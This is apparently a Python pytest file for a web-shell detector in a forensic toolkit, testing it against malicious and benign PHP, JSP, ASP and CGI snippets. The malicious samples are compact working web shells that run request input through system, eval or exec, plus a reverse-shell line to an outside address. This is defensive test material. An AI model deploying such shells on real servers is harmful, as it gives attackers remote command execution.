"""Whether a script is a web shell, by its code: the forms that public collections have, and what well-known applications do.

The forms are those that the rules missed, or accused wrongly, over 1,197 scripts of three public collections of web shells and 11,289 PHP
files of phpBB 3.2, MyBB, DokuWiki, Roundcube, OpenCart and CodeIgniter. The samples are the project's own.
"""

from __future__ import annotations

import time

import pytest

from forensic_toolkit.rules.web_shell_code import MOST, what_it_does

SHELLS = {
    "variable": "<?php $x = trim($_POST['a']); $y = \"sh -c \" . $x; $r = shell_exec($y); echo $r;",
    "old names": "<?php $c = $HTTP_POST_VARS['cmd']; passthru($c);",
    "header": "<?php @system($_SERVER['HTTP_X_TOKEN']);",
    "backtick": "<?php echo `{$_REQUEST['q']} 2>&1`;",
    "wrapper": "<?php function run($what) { $out = array();\n exec($what, $out);\n return $out; }\n print_r(run($_GET['do']));",
    "each": "<?php foreach ($_COOKIE as $name => $value) { assert($value); }",
    "extract": "<?php extract($_REQUEST); eval($body);",
    "raw body": "<?php eval(file_get_contents('php://input'));",
    "decoded": "<?php $p = base64_decode('cGhwaW5mbygpOw=='); eval($p);",
    "modifier": "<?php preg_replace('/.*/e', $_POST['z'], 'a');",
    "called by a name": "<?php $f = str_rot13('flfgrz'); $f($_GET['c']);",
    "put together": "<?php $a = 'as' . 'sert'; $a($x);",
    "include": "<?php include($_GET['page']);",
    "reverse": "<?php $s = fsockopen('198.51.100.7', 443); $p = proc_open('/bin/sh -i', $d, $pipes);",
    "upload": "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to'] . '/' . $_FILES['f']['name']);",
    "JSP by a variable": '<% String c = request.getParameter("c"); Process p = Runtime.getRuntime().exec(c); %>',
    "JSP by a class loader": '<% new U(this.getClass().getClassLoader()).g(b64(request.getParameter("p"))).newInstance(); class U { Class g(byte[] b) { return defineClass(b,0,b.length); } } %>',
    "ASP": '<%execute request("z")%>',
    "ASP.NET": '<%@ Page %><% var p = new ProcessStartInfo("cmd.exe"); %>',
    "CGI": '#!/usr/bin/perl\nmy $c = $ENV{"QUERY_STRING"}; system("$ENV{QUERY_STRING}");',
}  # fmt: skip
HONEST = {
    "argv in a comment": "<?php\n/**\n * `$_SERVER['argv']` is used.\n */\nclass Input { function __construct() { $argv = $_SERVER['argv']; } }",
    "method": "<?php $db->exec($_POST['query']); $result['exec'] = Curl::exec($_GET['u']);",
    "escaped": "<?php system('convert ' . escapeshellarg($_POST['file']));",
    "number": "<?php exec('kill ' . (int) $_GET['pid']);",
    "old templates": "<?php $v = $_GET['x']; eval(\"\\$level = \\\"\".$templates->get('warning_' . $v).\"\\\";\");",
    "modifier without code": "<?php $t = preg_replace('/{L_([A-Z_]+)}/e', \"(!empty(\\$lang['\\$1'])) ? 1 : 0\", $t);",
    "modifier in the words": "<?php $a = preg_replace('/!(.*)!([a-z]*)/', '$1', $m); $b = 'extended';",
    "server's own": "<?php exec('ls ' . $_SERVER['DOCUMENT_ROOT']);",
    "fixed upload": "<?php move_uploaded_file($_FILES['f']['tmp_name'], UPLOADS . '/' . md5(rand()) . '.png');",
    "JavaScript": "<?php ?><script>var x = /a/.exec(location.search); eval(request);</script>",
    "a page": '<%= request.getParameter("name") %>',
}  # fmt: skip


@pytest.mark.parametrize("name", SHELLS)
def test_what_web_shells_do_is_seen(name: str) -> None:
    assert what_it_does(SHELLS[name]) is not None


@pytest.mark.parametrize("name", HONEST)
def test_what_applications_do_is_not_accused(name: str) -> None:
    assert what_it_does(HONEST[name]) is None


@pytest.mark.parametrize("padding", [" ", "(", "$a=", "function f($a){", "/*", "`", "foreach($_GET as ", "\\x65"])
def test_a_script_that_is_made_to_keep_its_reader_busy_takes_seconds(padding: str) -> None:
    began = time.process_time()
    what_it_does("<?php $_GET; " + padding * (MOST // len(padding)))
    assert time.process_time() - began < 60


@pytest.mark.parametrize("before", [0, MOST // 2, MOST - 10, 3 * MOST])
def test_a_shell_is_seen_wherever_it_is_in_a_large_script(before: int) -> None:
    filling = "$a = 1; "
    text = "<?php " + filling * (before // len(filling)) + SHELLS["variable"][5:] + filling * (4 * MOST // len(filling))
    assert what_it_does(text) is not None
